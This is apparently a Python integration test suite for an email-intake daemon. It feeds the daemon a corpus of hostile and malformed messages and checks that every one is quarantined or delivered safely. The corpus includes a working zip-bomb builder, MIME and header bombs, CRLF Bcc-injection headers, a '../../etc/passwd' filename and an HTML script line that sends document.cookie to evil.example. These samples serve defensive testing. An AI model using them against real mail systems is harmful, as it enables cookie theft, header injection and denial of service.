"""Hostile and broken mail on real parts: a corpus of bombs, bad encodings and header tricks in
the intake (Dovecot, plus a Maildir for what IMAP cannot carry), then one good report. One run of
`run_daemon.py --once` must account for every message (quarantined with a reason, or delivered),
deliver the good report, leave nothing behind, print no traceback and log no content."""

from __future__ import annotations

import base64
import json
import mailbox
import secrets
import sqlite3
import struct
import time
import zlib
from collections.abc import Callable
from email.message import EmailMessage
from pathlib import Path

from tests.integration.conftest import ADMIN, ANONYMOUS, INTAKE, Deployment, email
from tests.integration.test_email_end_to_end import referral_parts

SENDER = b"Hostile Sender <hostile@example.net>"
TOKEN = secrets.token_hex(4)


def canary(number: int) -> bytes:
    return f"CANARY{number:02d}q{TOKEN}".encode()


# --- building blocks ----------------------------------------------------------------------------


def mail(number: int, body: bytes = b"", *, headers: bytes = b"", sender: bytes = SENDER) -> bytes:
    """A message with a unique Message-ID and the canary in its body (after `body`)."""
    top = b"From: " + sender + b"\r\nTo: " + INTAKE.encode() + b"\r\n"
    top += b"Message-ID: <hostile-%d-%s@example.net>\r\n" % (number, TOKEN.encode())
    return top + headers + b"\r\n" + body + b"\r\n" + canary(number) + b"\r\n"


def multipart(parts: list[bytes], boundary: bytes = b"B", kind: bytes = b"mixed") -> bytes:
    """Headers and body of a multipart entity made of `parts` (each: headers, blank, body)."""
    body = b"".join(b"--" + boundary + b"\r\n" + part + b"\r\n" for part in parts)
    head = b"Content-Type: multipart/" + kind + b"; boundary=" + boundary + b"\r\n\r\n"
    return head + body + b"--" + boundary + b"--\r\n"


def mime(number: int, entity: bytes, sender: bytes = SENDER) -> bytes:
    """A message whose MIME structure is `entity` (headers + body), canary in its first part."""
    entity = entity.replace(b"@CANARY@", canary(number), 1)
    top = b"From: " + sender + b"\r\nTo: " + INTAKE.encode() + b"\r\nMIME-Version: 1.0\r\n"
    return top + b"Message-ID: <hostile-%d-%s@example.net>\r\n" % (number, TOKEN.encode()) + entity


TEXT = b"Content-Type: text/plain\r\n\r\nplain text @CANARY@"


def deep(levels: int) -> bytes:
    entity = TEXT
    for level in reversed(range(levels)):
        entity = multipart([entity], boundary=b"d%d" % level)
    return entity


def attachment(data: bytes, filename: bytes, kind: bytes = b"application/octet-stream") -> bytes:
    encoded = base64.encodebytes(data).replace(b"\n", b"\r\n")
    return (
        b"Content-Type: " + kind + b"\r\nContent-Transfer-Encoding: base64\r\n"
        b"Content-Disposition: attachment; filename=" + filename + b"\r\n\r\n" + encoded
    )


def zip_bomb(members: int = 20, member_bytes: int = 100 * 2**20) -> bytes:
    """A real zip of `members` files of zeros, each `member_bytes` long (2 GB by default) that
    shares one deflate stream: about 2 MB on the wire."""
    stream = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = stream.compress(bytes(member_bytes)) + stream.flush()
    crc = zlib.crc32(bytes(member_bytes))
    local, central = b"", b""
    for index in range(members):
        name = b"zeros-%02d.bin" % index
        fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0, crc, len(packed), member_bytes)
        central += (
            b"PK\x01\x02"
            + struct.pack("<H", 20)
            + fields
            + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, len(local))
            + name
        )
        local += b"PK\x03\x04" + fields + struct.pack("<HH", len(name), 0) + name + packed
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, members, members, len(central), len(local), 0)
    return local + central + end


# --- the corpus ---------------------------------------------------------------------------------

#: Each builder gets its number and returns the raw message; the name says what is wrong with it.
CORPUS: dict[str, Callable[[int], bytes]] = {
    # encodings and charsets
    "unknown body charset": lambda n: mail(
        n, headers=b"Content-Type: text/plain; charset=x-nope\r\n"
    ),
    "unknown charset in encoded subject": lambda n: mail(
        n, headers=b"Subject: =?x-no-such-charset?q?hello?=\r\n"
    ),
    "utf-7 body": lambda n: mail(
        n, b"+AGEAYgBj-", headers=b"Content-Type: text/plain; charset=utf-7\r\n"
    ),
    "bytes-to-bytes codec as charset": lambda n: mail(
        n, headers=b"Content-Type: text/plain; charset=rot13\r\n"
    ),
    "idna charset with bad bytes": lambda n: mail(
        n, b"\xff\xfe\xfd", headers=b"Content-Type: text/plain; charset=idna\r\n"
    ),
    "base64 garbage": lambda n: mail(
        n, b"!!!not*base64###\r\n====", headers=b"Content-Transfer-Encoding: base64\r\n"
    ),
    "quoted-printable garbage": lambda n: mail(
        n, b"=ZZ=\r\n=\r\n=0", headers=b"Content-Transfer-Encoding: quoted-printable\r\n"
    ),
    "unknown transfer encoding": lambda n: mail(
        n, b"begin 644 x\r\nzzz\r\n", headers=b"Content-Transfer-Encoding: x-uue\r\n"
    ),
    "8-bit headers": lambda n: mail(
        n,
        sender=b"J\xe9r\xf4me \xff <jerome@example.net>",
        headers=b"Subject: caf\xe9 \xff\xfe\r\n",
    ),
    "8-bit body without charset": lambda n: mail(n, b"\xe9\xe8\xff\xfe\x80"),
    "bare LF line endings": lambda n: mail(n, b"line one").replace(b"\r\n", b"\n"),
    "lone CR line endings": lambda n: mail(n, b"line one").replace(b"\r\n", b"\r"),
    "two million one-byte lines": lambda n: mail(n, b"\r" * 2_000_000),
    "five MB on one line": lambda n: mail(n, b"x" * 5_000_000),
    # MIME structure
    "multipart without boundary": lambda n: mime(
        n, b"Content-Type: multipart/mixed\r\n\r\n--B\r\n\r\n@CANARY@\r\n--B--\r\n"
    ),
    "wrong boundary": lambda n: mime(
        n, b"Content-Type: multipart/mixed; boundary=A\r\n\r\n--B\r\n\r\n@CANARY@\r\n--B--\r\n"
    ),
    "missing close boundary": lambda n: mime(n, multipart([TEXT]).rsplit(b"--B--", 1)[0]),
    "preamble only": lambda n: mime(
        n, b"Content-Type: multipart/mixed; boundary=B\r\n\r\npreamble @CANARY@\r\n"
    ),
    "same boundary nested": lambda n: mime(n, multipart([multipart([TEXT]), TEXT])),
    "whitespace boundary": lambda n: mime(
        n,
        b'Content-Type: multipart/mixed; boundary="  "\r\n\r\n--  \r\n\r\n@CANARY@\r\n--  --\r\n',
    ),
    "non-ASCII RFC 2231 boundary": lambda n: mime(
        n,
        b"Content-Type: multipart/mixed; boundary*=utf-8''%C3%A9\r\n\r\n--\xc3\xa9\r\n\r\n"
        b"@CANARY@\r\n--\xc3\xa9--\r\n",
    ),
    "digest of garbage": lambda n: mime(
        n, multipart([b"\r\n@CANARY@", b"X: y\r\n\r\nz"], kind=b"digest")
    ),
    "empty attached message": lambda n: mime(
        n, multipart([TEXT, b"Content-Type: message/rfc822\r\n\r\n"])
    ),
    "HTML with script": lambda n: mime(
        n,
        b"Content-Type: text/html\r\n\r\n<p>Hello</p><script>fetch('http://evil.example/'+"
        b"document.cookie)</script><img src=http://tracker.example/x.png><p>@CANARY@</p>",
    ),
    "unclosed HTML tags": lambda n: mime(
        n, b"Content-Type: text/html\r\n\r\n@CANARY@" + b"<a " * 300_000
    ),
    "unclosed HTML comments": lambda n: mime(
        n, b"Content-Type: text/html\r\n\r\n@CANARY@" + b"<!--" * 200_000
    ),
    # bombs
    "ten thousand parts": lambda n: mime(n, multipart([TEXT] + [b"\r\nx"] * 10_000)),
    "a thousand levels of multipart": lambda n: mime(n, deep(1000)),
    "a thousand attached messages deep": lambda n: mime(
        n, b"Content-Type: message/rfc822\r\n\r\n" * 1000 + b"From: x@y.example\r\n\r\n@CANARY@"
    ),
    "delivery-status with five thousand blocks": lambda n: mime(
        n,
        b"Content-Type: message/delivery-status\r\n\r\n@CANARY@: x\r\n\r\n"
        + b"A: b\r\n\r\n" * 5000,
    ),
    "fifty MB attachment": lambda n: mime(
        n, multipart([TEXT, attachment(bytes(50 * 2**20), b"big.bin")])
    ),
    "zip bomb": lambda n: mime(
        n, multipart([TEXT, attachment(zip_bomb(), b"bomb.zip", b"application/zip")])
    ),
    "twenty-one attachments": lambda n: mime(
        n, multipart([TEXT] + [attachment(b"%d" % i, b"f%d.txt" % i) for i in range(21)])
    ),
    "header count bomb": lambda n: mail(n, headers=b"X-Bomb: 1\r\n" * 10_000),
    "header length bomb": lambda n: mail(n, headers=b"Subject: " + b"A" * 200_000 + b"\r\n"),
    "folded header bomb": lambda n: mail(n, headers=b"Subject: a" + b"\r\n a" * 50_000 + b"\r\n"),
    "Message-ID of 100 KB": lambda n: mail(n).replace(
        b"Message-ID: <", b"Message-ID: <" + b"i" * 100_000, 1
    ),
    "From of 60 KB quotes": lambda n: mail(n, sender=b'"' * 60_000),
    "To of 60 KB commas": lambda n: mail(n, headers=b"Cc: " + b"," * 60_000 + b"\r\n"),
    "Content-Type of 60 KB": lambda n: mail(
        n, headers=b'Content-Type: text/plain; a="' + b'"' * 60_000 + b"\r\n"
    ),
    "Content-Type of nested comments": lambda n: mail(
        n, headers=b"Content-Type: " + b"(" * 250 + b"\r\n"
    ),
    "Subject of 50 KB encoded words": lambda n: mail(
        n, headers=b"Subject: " + b"=?utf-8?q?a?= " * 3500 + b"\r\n"
    ),
    # header tricks
    "encoded-word header injection": lambda n: mail(
        n, headers=b"Subject: =?utf-8?q?hi=0D=0ABcc:_x@evil.example?=\r\n"
    ),
    "From with encoded CR/LF": lambda n: mail(
        n, sender=b"=?utf-8?q?Al=0D=0ABcc=3A_x=40evil.example?= <al@example.net>"
    ),
    "From quoting another address": lambda n: mail(
        n, sender=b'"alice@example.org" <bob@evil.example>'
    ),
    "From with two addresses": lambda n: mail(n, sender=b"a@b.example, c@d.example"),
    "From encoded word hiding an address": lambda n: mail(
        n, sender=b"=?utf-8?q?=3Cevil=40x.example=3E?= <a@b.example>"
    ),
    "CVE-2023-27043 From": lambda n: mail(n, sender=b'"a@evil.example"@good.example'),
    "two From fields": lambda n: mail(n, headers=b"From: second@evil.example\r\n"),
    "header registry IndexError": lambda n: mail(
        n, headers=b"In-Reply-To: <>!@=3C'=00a/][multipart/mixed\r\n"
    ),
    "From the registry cannot parse": lambda n: mail(n, sender=b"xQUJD<"),
    "garbage Date": lambda n: mail(n, headers=b"Date: Tue, 99 Foo 99999 99:99:99 +9999\r\n"),
    "filename injection": lambda n: mime(
        n,
        multipart(
            [TEXT, attachment(b"x", b'"=?utf-8?q?..=2F..=2Fetc=2Fpasswd=0D=0ABcc=3A_x=40evil?="')]
        ),
    ),
    "only headers": lambda n: (
        mail(n).split(b"\r\n\r\n")[0].replace(b"To:", b"Subject: " + canary(n) + b"\r\nTo:")
    ),
    "only headers and a blank line": lambda n: mail(n).split(b"\r\n\r\n")[0] + b"\r\n\r\n",
    "no headers at all": lambda n: b"this is no email " + canary(n) + b"\r\n\r\nat all\r\n",
    "anonymous zip bomb": lambda n: mime(
        n,
        multipart([TEXT, attachment(zip_bomb(), b"bomb.zip", b"application/zip")]),
    ).replace(INTAKE.encode(), ANONYMOUS.encode(), 1),
}

#: What Dovecot cannot store as it is (it refuses empty messages, turns NUL into 0x80 and a lone
#: CR into CRLF): these go through the Maildir source instead.
MAILDIR_CORPUS: dict[str, Callable[[int], bytes]] = {
    "zero-length": lambda n: b"",
    "NUL bytes in the body": lambda n: mail(n, b"a\x00b\x00\x00c"),
    "NUL bytes in headers": lambda n: mail(n, headers=b"Subject: a\x00b\r\nX-Nul\x00: c\r\n"),
    "NUL bytes and no headers": lambda n: b"\x00\x01\x02 " + canary(n) + b"\r\n\r\n\x00",
    "From with a raw CR": lambda n: mail(n, sender=b"al@example.net\rBcc: x@evil.example"),
}

#: Limits the corpus must hit: each shows up in at least one quarantine reason.
EXPECTED_LIMITS = ("parts", "depth", "message_bytes", "headers", "header_bytes", "attachments")


def status(deployment: Deployment) -> dict[str, dict[str, int]]:
    run = deployment.intake("status", "--json")
    assert run.returncode == 0, run.stderr
    return json.loads(run.stdout)


def test_hostile_corpus_is_quarantined_or_delivered_and_never_stops_the_good_report(
    deployment: Deployment,
) -> None:
    started = time.monotonic()
    deployment.write(extra='[maildir]\npath = "maildir"\n')
    over_imap = [build(number) for number, build in enumerate(CORPUS.values())]
    offset = len(over_imap)
    by_file = [build(offset + n) for n, build in enumerate(MAILDIR_CORPUS.values())]
    good_canary = f"GOOD-{TOKEN}"
    good = email(
        f"Someone shouted racist abuse at me in the library. {good_canary}",
        sender="Good Reporter <good.reporter@example.ac.uk>",
        message_id=f"<good-{TOKEN}@example.ac.uk>",
    )
    with deployment.imap.client(timeout=60) as imap:
        for raw in over_imap:
            imap.append("INBOX", raw)
    maildir = mailbox.Maildir(deployment.root / "maildir", create=True)
    for raw in by_file:
        maildir.add(raw)
    deployment.imap.append(good)
    total = len(over_imap) + len(by_file) + 1
    assert total > 50

    first = deployment.run_once()
    runs = [first]
    if first.returncode != 0:  # only per-item errors are allowed, and a second run resolves them
        assert "Traceback" not in first.stderr
        runs.append(deployment.run_once())
        assert runs[-1].returncode == 0, runs[-1].stderr

    for run in runs:
        assert "Traceback" not in run.stderr and "Traceback" not in run.stdout
    counts = status(deployment)
    assert sum(counts["reports"].values()) == total, counts
    assert counts["reports"]["quarantined"] >= 10, counts
    assert counts["reports"]["queued"] == counts["reports"]["held"] == 0, counts
    assert counts["outbox"]["failed"] == counts["outbox"]["queued"] == 0, counts
    assert deployment.imap.uids("INBOX") == []
    assert maildir.keys() == []

    # every quarantined message has a reason naming its problem; the bombs name their limits
    database = sqlite3.connect(deployment.data_dir / "intake.db")
    reasons = [
        r for (r,) in database.execute("SELECT reason FROM report WHERE state='quarantined'")
    ]
    assert all(reasons) and len(reasons) == counts["reports"]["quarantined"]
    for limit in EXPECTED_LIMITS:
        assert any(f"(limit: limits.{limit})" in reason for reason in reasons), limit
    assert any("empty" in reason for reason in reasons)
    assert any("no headers" in reason for reason in reasons)

    # the good report, last in the queue, reached the service its rule names
    mail = deployment.smtp.wait_for(counts["outbox"]["sent"])
    student_services = deployment.keys.emails["student-services"]
    referrals = [m for m in mail if m.rcpt_tos == [student_services]]
    assert len(referrals) == 1
    assert good_canary in deployment.keys.decrypt(referral_parts(referrals[0])[1]).decode()
    assert "good.reporter@example.ac.uk" in [m.rcpt_tos[0] for m in mail]

    # no content in any log, reason or status; nothing was expanded on disk
    canaries = [canary(n).decode() for n in range(total)] + [good_canary]
    logs = "".join(run.stderr + run.stdout for run in runs) + json.dumps(counts) + "".join(reasons)
    for planted in canaries:
        assert planted not in logs, planted
    largest = max(p.stat().st_size for p in Path(deployment.root).rglob("*") if p.is_file())
    assert largest < 200 * 2**20
    assert time.monotonic() - started < 90


def test_named_sender_of_an_oversized_message_is_told_how_else_to_send_it(
    deployment: Deployment,
) -> None:
    deployment.write(extra="[limits]\nattachments = 1\n")
    message = EmailMessage()
    message["From"] = "Sam Student <sam.student@example.ac.uk>"
    message["To"] = "report@example.ac.uk"
    message["Subject"] = "photos"
    message.set_content("Too many attachments. OVER-LIMIT-BODY")
    for n in range(3):
        message.add_attachment(
            b"x" * 10, maintype="application", subtype="octet-stream", filename=f"{n}.bin"
        )
    deployment.imap.append(message.as_bytes())

    assert deployment.run_once().returncode == 8  # quarantined

    counts = json.loads(deployment.intake("status", "--json").stdout)
    assert counts["reports"]["quarantined"] == 1
    (alert,) = [m for m in deployment.smtp.messages if m.rcpt_tos == [ADMIN]]
    assert "is quarantined" in str(alert.message["Subject"])
    (notice,) = [m for m in deployment.smtp.messages if m.rcpt_tos != [ADMIN]]
    assert notice.rcpt_tos == ["sam.student@example.ac.uk"]
    assert "too large" in str(notice.message["Subject"])
    assert b"OVER-LIMIT-BODY" not in notice.data
